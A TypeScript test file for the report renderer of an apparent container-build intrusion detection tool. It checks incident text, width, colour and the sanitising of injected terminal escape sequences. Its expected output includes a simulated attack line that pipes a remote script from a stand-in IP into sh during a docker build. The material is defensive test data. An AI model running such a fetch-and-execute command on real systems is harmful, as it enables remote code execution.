import { assert, property, string } from 'fast-check';
import { describe, expect, it } from 'vitest';
import { fold } from '../correlate/fixtures/fold.js';
import { buildkitAttack, classicAttack } from '../correlate/fixtures/stories.js';
import type { Json } from '../model/row.js';
import { buildsTable, incidentsTable } from './listings.js';
import { paletteFor, plain } from './palette.js';
import { columnsOf } from './printable.js';
import { buildReport, incidentReport } from './report.js';
import { summaryLine } from './summary.js';

const style = { palette: plain, width: 100 };

function parts(story = classicAttack()) {
  const told = fold(story, { until: 60 });
  const [incident] = told.incidents.values();
  const [build] = told.builds.values();
  if (!incident || !build) throw new Error('the story gives no incident');
  return { incident, build, steps: [...told.steps.values()], alerts: [...told.alerts.values()] };
}

/** The same rows with a text put in place of every string, however deep. */
function infected<T>(value: T, text: string): T {
  const walk = (json: unknown): unknown => {
    if (typeof json === 'string') return json + text;
    if (Array.isArray(json)) return json.map(walk);
    if (json === null || typeof json !== 'object') return json;
    return Object.fromEntries(Object.entries(json).map(([key, each]) => [key, walk(each)]));
  };
  return walk(value as Json) as T;
}

describe('the report of an incident', () => {
  const lines = incidentReport(parts(), style);
  const text = lines.join('\n');

  it('says who, with what, step by step, what came out, what ran, and so what', () => {
    for (const part of [
      'HIGH  Incident i-',
      'mallory (uid 1000), logged in as uid 1000',
      'docker build -t evil --build-arg TOKEN=*** /tmp/x',
      'bash (101) → docker (104)',
      '│ RUN wget -qO- http://203.0.113.9:8000/x.sh | sh',
      '→ 203.0.113.9:8000 by wget',
      'exit 0',
      'evil:latest',
      'run_60 at 10:00:05.200 from its image',
      'by docker run -d evil',
      'score 13, confidence high',
      '+3 Built from a temporary directory: /tmp/x. [temp-path]',
      'T1059.004, T1105, T1204.003, T1571, T1610, T1612',
      'Timeline  UTC',
    ]) {
      expect(text).toContain(part);
    }
  });

  it('keeps to the width', () => {
    for (const line of incidentReport(parts(), { ...style, width: 72 })) {
      expect(columnsOf(line)).toBeLessThanOrEqual(72);
    }
  });

  it('says when the build is not stored any more', () => {
    const { incident } = parts();
    const bare = incidentReport({ incident, build: undefined, steps: [], alerts: [] }, style);
    expect(bare.join('\n')).toContain('not stored any more');
  });
});

describe('hostile strings', () => {
  const all = parts(buildkitAttack());

  it('never reach the terminal raw, in any column', () => {
    assert(
      property(string({ unit: 'binary', maxLength: 12 }), (noise) => {
        const hostile = `\u001b[2J\u009b\u202e\n\r${noise}`;
        const { incident, build, steps } = infected(all, hostile);
        const lines = [
          ...incidentReport({ incident, build, steps, alerts: [] }, style),
          ...buildReport({ build, steps }, style),
          ...buildsTable([build], plain, 100),
          ...incidentsTable([incident], plain, 100),
          summaryLine({ table: 'ImageBuilds', row: build }, { palette: plain, width: 100 }),
          summaryLine({ table: 'Incidents', row: incident }, { palette: plain }),
          summaryLine({
            table: 'Alerts',
            row: infected(
              { TimeGenerated: 0, AlertId: 'a', Severity: 'High', Detail: 'd', Title: 't' },
              hostile,
            ),
          }),
          summaryLine({
            table: 'SensorEvents',
            row: infected(
              { TimeGenerated: 0, ActionType: 'Gap', Sensor: 'kernel', Reason: 'r' },
              hostile,
            ),
          }),
        ];
        for (const line of lines) expect(line).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
      }),
      { numRuns: 20 },
    );
  });

  it('do not break a report whose columns hold something else than expected', () => {
    const { incident, build } = all;
    for (const junk of [null, 'text', 7, [null, 7, ['x']], { a: [1] }] as Json[]) {
      const broken = {
        incident: { ...incident, Evidence: junk, Timeline: junk, Unknowns: junk, Techniques: junk },
        build: {
          ...build,
          AdditionalFields: junk,
          RequesterProcessChain: junk,
          Tags: junk,
          RemoteAddresses: junk,
        },
        steps: [
          {
            TimeGenerated: 0,
            BuildId: 'b',
            StepId: 's',
            Processes: junk,
            Connections: junk,
            AdditionalFields: junk,
          },
        ],
        alerts: [],
      };
      expect(incidentReport(broken, style).length).toBeGreaterThan(10);
    }
  });
});

describe('listings', () => {
  const { build, incident } = parts();

  it('are aligned, and cut to the width', () => {
    const rows = [build, { ...build, AccountName: 'a'.repeat(80), Tags: ['t'.repeat(200)] }];
    const lines = buildsTable(rows, plain, 110);
    for (const line of lines) expect(columnsOf(line)).toBeLessThanOrEqual(110);
    const at = lines[0]?.indexOf('STATE') ?? -1;
    expect(lines.slice(1).map((line) => line.slice(at, at + 9))).toEqual([
      'succeeded',
      'succeeded',
    ]);
    expect(incidentsTable([incident], plain, 90)[1]).toMatch(
      /^2026-11-22 10:00:05 {2}i-\w{12} {2}High/,
    );
  });
});

describe('colour', () => {
  it('is off without a terminal, and when NO_COLOR says so', () => {
    expect(paletteFor({ isTTY: false }, {})).toBe(plain);
    expect(paletteFor({ isTTY: true }, { NO_COLOR: '1' })).toBe(plain);
    expect(paletteFor({ isTTY: true }, { TERM: 'dumb' })).toBe(plain);
    expect(paletteFor({ isTTY: true }, {}).bold('x')).toBe('\u001b[1mx\u001b[22m');
  });
});
